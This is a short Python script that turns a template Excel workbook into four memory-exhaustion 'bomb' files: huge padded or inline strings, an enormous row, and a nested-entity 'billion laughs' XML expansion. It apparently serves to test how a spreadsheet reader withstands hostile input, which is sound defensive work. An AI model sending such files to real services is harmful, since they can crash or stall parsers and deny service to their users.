"""Makes workbooks of a form that would fill the memory of a reader that believes them.

usage: make_bombs.py FORM FOLDER

Prints the paths of the workbooks, one a line.
"""
import pathlib
import sys
import zipfile

MEBIBYTE = 1 << 20
STRINGS = "xl/sharedStrings.xml"
SHEET = "xl/worksheets/sheet3.xml"


def main(form, folder):
    with zipfile.ZipFile(form) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    strings, sheet = parts[STRINGS], parts[SHEET]
    rows = sheet.index(b"</sheetData>")
    entities = b"".join(
        b'<!ENTITY a%d "%s">' % (level, b"&a%d;" % (level - 1) * 10) for level in range(1, 10))
    bombs = {
        "spaces": (STRINGS, [strings, *[b" " * MEBIBYTE] * 512]),
        "text": (
            SHEET,
            [sheet[:rows], b'<row><c t="inlineStr"><is><t>', *[b"a" * MEBIBYTE] * 28,
             b"</t></is></c></row>", sheet[rows:]]),
        "row": (SHEET, [sheet[:rows], b"<row>", *[b"<c><v>1</v></c>" * 16_384] * 100,
                        b"</row>", sheet[rows:]]),
        "laughs": (
            STRINGS,
            [b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a0 "ha">', entities, b"]>",
             strings[strings.index(b"<sst"):].replace(b"</sst>", b"<si><t>&a9;</t></si></sst>")]),
    }
    for name, (changed, content) in bombs.items():
        path = pathlib.Path(folder, f"{name}.xlsx")
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            for part, bytes_ in parts.items():
                if part != changed:
                    archive.writestr(part, bytes_)
                    continue
                with archive.open(part, "w") as stream:
                    for piece in content:
                        stream.write(piece)
        print(path)


if __name__ == "__main__":
    main(*sys.argv[1:])
